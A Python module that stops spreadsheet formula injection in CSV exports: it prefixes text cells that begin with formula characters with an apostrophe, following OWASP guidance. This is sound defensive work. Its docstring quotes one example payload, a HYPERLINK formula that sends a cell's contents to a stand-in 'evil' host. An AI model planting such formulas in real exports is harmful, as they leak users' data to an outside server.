"""CSV for spreadsheets: every export goes through here so no cell runs as a formula.

Model names, product titles and category names are typed by users or written by models; a
cell such as ``=HYPERLINK("http://evil/?"&A1)`` runs when the file is opened in Excel,
LibreOffice or Google Sheets. Following OWASP's "CSV Injection" advice, a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'``,
which spreadsheets show as text and drop from the cell's value. Numbers, dates and
booleans are written as they are (a negative number is not a formula).
"""

import csv
import datetime as dt
from collections.abc import Iterable, Iterator
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN = (int, float, Decimal, bool, dt.date, dt.datetime, dt.time)


def safe_cell(value) -> object:
    """``value`` made safe for a spreadsheet cell (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, _PLAIN):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    """A file-like object whose write returns the line, for a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """CSV lines of ``rows``, every cell passed through ``safe_cell``."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([safe_cell(v) for v in row])
